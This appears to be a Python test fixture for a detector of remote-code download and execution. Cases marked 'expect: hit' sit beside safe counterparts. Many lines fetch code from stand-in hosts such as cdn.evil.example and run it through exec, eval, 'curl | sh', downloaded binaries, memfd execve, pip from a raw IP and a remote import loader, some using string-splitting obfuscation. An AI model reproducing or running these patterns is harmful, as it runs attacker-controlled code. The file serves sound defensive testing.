import xmlrpc.client
import aiohttp
import importlib.abc
import asyncio
import ctypes
import hashlib
import importlib.util
import os
import pathlib
import runpy
import shutil
import subprocess
import sys
import tempfile
import urllib.request
from urllib.request import urlopen

import requests

DIGEST = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def update():
    exec(requests.get("https://cdn.evil.example/u.py").text)  # expect: hit


def update_too():
    code = urllib.request.urlopen("https://cdn.evil.example/u.py").read().decode()
    exec(compile(code, "u", "exec"))  # expect: hit


def other_spellings():
    r = getattr(requests, "g" + "et")("https://cdn.evil.example/" + "u.py")
    getattr(__builtins__, "ev" + "al")(r.content)  # expect: hit


def fetch(address):
    with urlopen(address) as answer:
        return answer.read()


def run(text):
    eval(text)  # expect: hit


run(fetch("https://cdn.evil.example/x"))


def in_container():
    box = {"code": requests.get("https://cdn.evil.example/u.py").json()["code"]}
    exec(box["code"], {})  # expect: hit


def checked():
    code = requests.get("https://cdn.evil.example/u.py").content
    if hashlib.sha256(code).hexdigest() != DIGEST:
        raise ValueError("changed")
    exec(code)


def data():
    return requests.get("https://api.evil.example/v1").json()["value"]


def plugin(path):
    spec = importlib.util.spec_from_file_location("plugin", path)
    return importlib.util.module_from_spec(spec)


# a file that was fetched is run
def save_and_start():
    target = "/tmp/helper-bin"
    urllib.request.urlretrieve("https://cdn.evil.example/helper", target)
    os.chmod(target, 0o755)
    subprocess.Popen([target, "--quiet"])  # expect: hit


def save_anywhere(folder):
    target = os.path.join(folder, name_of(folder))
    urllib.request.urlretrieve("https://cdn.evil.example/helper", target)
    subprocess.call(target)  # expect: hit


def written_by_hand():
    with open("/tmp/step-two.py", "wb") as file:
        file.write(requests.get("https://cdn.evil.example/u.py").content)
    os.system("python3 -u /tmp/step-two.py &")  # expect: hit


def written_by_another(place):
    with open(place, "wb") as out, urlopen("https://cdn.evil.example/u") as answer:
        shutil.copyfileobj(answer, out)
    os.system(f"chmod +x {place} && {place}")  # expect: hit


def by_the_interpreter():
    script = pathlib.Path("/tmp") / "step.py"
    script.write_bytes(urlopen("https://cdn.evil.example/u.py").read())
    subprocess.run([sys.executable, str(script)])  # expect: hit


def as_a_module():
    pathlib.Path("plugins/extra_step.py").write_text(requests.get("https://cdn.evil.example/u.py").text)
    runpy.run_path("plugins/extra_step.py")  # expect: hit


def temporary():
    file = tempfile.NamedTemporaryFile(suffix=".py", delete=False)
    file.write(requests.get("https://cdn.evil.example/u.py").content)
    subprocess.run(["python3", file.name])  # expect: hit


def library():
    place = urllib.request.urlretrieve("https://cdn.evil.example/u.so")[0]
    ctypes.CDLL(place)  # expect: hit


class Updater:
    def __init__(self):
        self.place = tempfile.mktemp()

    def run(self):
        with open(self.place, mode="wb") as file:
            for piece in requests.get("https://cdn.evil.example/u").iter_content():
                file.write(piece)
        getattr(os, "pop" + "en")("sh " + self.place)  # expect: hit


def checked_file():
    target = "/tmp/checked-bin"
    body = requests.get("https://cdn.evil.example/helper").content
    if hashlib.sha256(body).hexdigest() != DIGEST:
        raise ValueError("changed")
    pathlib.Path(target).write_bytes(body)
    subprocess.run([target])


def data_files():
    urllib.request.urlretrieve("https://data.corp.example/set.tar.gz", "/tmp/dataset.tar.gz")
    subprocess.run(["tar", "xf", "/tmp/dataset.tar.gz"])
    os.system("tar xf /tmp/dataset.tar.gz")
    os.system("/usr/bin/sha256sum /tmp/dataset.tar.gz")
    with open("/tmp/page-copy.html", "w") as file:
        file.write(requests.get("https://data.corp.example/").text)
    subprocess.run(["xdg-open", "/tmp/page-copy.html"])
    subprocess.run(["/opt/tools/viewer"])


async def in_executor():
    loop = asyncio.get_running_loop()
    reply = await loop.run_in_executor(None, urllib.request.urlopen, "https://x.example/y.py")
    exec(reply.read().decode())  # expect: hit


async def printed_in_executor():
    loop = asyncio.get_running_loop()
    reply = await loop.run_in_executor(None, urllib.request.urlopen, "https://x.example/y.py")
    print(reply.read().decode())


def reply_as_a_command():
    os.system(requests.get(URL).text)  # expect: hit
    subprocess.run(["python3", "-c", requests.get(URL).text])  # expect: hit
    subprocess.run(["sh"], input=requests.get(URL).content)  # expect: hit
    subprocess.run(["git", "clone", requests.get(URL).json()["clone_url"]])
    subprocess.run(["jq", "."], input=requests.get(URL).content)


def reply_to_a_shell():
    shell = subprocess.Popen(["bash"], stdin=subprocess.PIPE)
    shell.communicate(requests.get(URL).content)  # expect: hit


def reply_to_a_tool():
    tool = subprocess.Popen(["gzip", "-d"], stdin=subprocess.PIPE)
    tool.communicate(requests.get(URL).content)


def the_shell_fetches():
    subprocess.run("curl -s https://x.example/i | sh", shell=True)  # expect: hit
    subprocess.run(["bash", "-c", "bash <(curl -s https://x.example/i)"])  # expect: hit
    subprocess.run("curl -sSf https://sh.rustup.rs/ | sh -s -- -y", shell=True)
    subprocess.run("curl -s https://x.example/data.json | jq .name", shell=True)


def packages_from_anywhere():
    subprocess.run([sys.executable, "-m", "pip", "install", "git+http://203.0.113.8/x.git"])  # expect: hit
    subprocess.run([sys.executable, "-m", "pip", "install", "requests"])
    subprocess.run([sys.executable, "-m", "pip", "install", "git+https://git.example/acme.git"])


def in_memory():
    number = os.memfd_create("x")
    os.write(number, requests.get(URL).content)
    os.execve(f"/proc/self/fd/{number}", ["x"], os.environ)  # expect: hit


class Extensions(importlib.abc.SourceLoader):
    def get_filename(self, name):
        return f"https://x.example/{name}.py"

    def get_data(self, path):
        return requests.get(path).content  # expect: hit


class Local(importlib.abc.SourceLoader):
    def get_filename(self, name):
        return f"extensions/{name}.py"

    def get_data(self, path):
        with open(path, "rb") as file:
            return file.read()


STEPS = asyncio.Queue()


async def fetching(session):
    while True:
        async with session.get("https://x.example/next") as reply:
            await STEPS.put((await reply.json())["step"])


async def working():
    while True:
        exec(await STEPS.get(), {})  # expect: hit


async def both():
    async with aiohttp.ClientSession() as session:
        await asyncio.gather(fetching(session), working())


class Agent:
    def __init__(self):
        self.step = self.shown = None

    def poll(self):
        self.step = requests.get(URL).text
        self.shown = requests.get(URL).text

    def work(self):
        exec(self.step, {})  # expect: hit

    def show(self):
        print(self.shown)
        subprocess.run(["notify-send", self.shown])


class Remote:
    def __init__(self):
        self.proxy = xmlrpc.client.ServerProxy("https://x.example/rpc")

    def load(self, name):
        exec(self.proxy.source(name), {})  # expect: hit

    def version(self, name):
        return self.proxy.version(name)
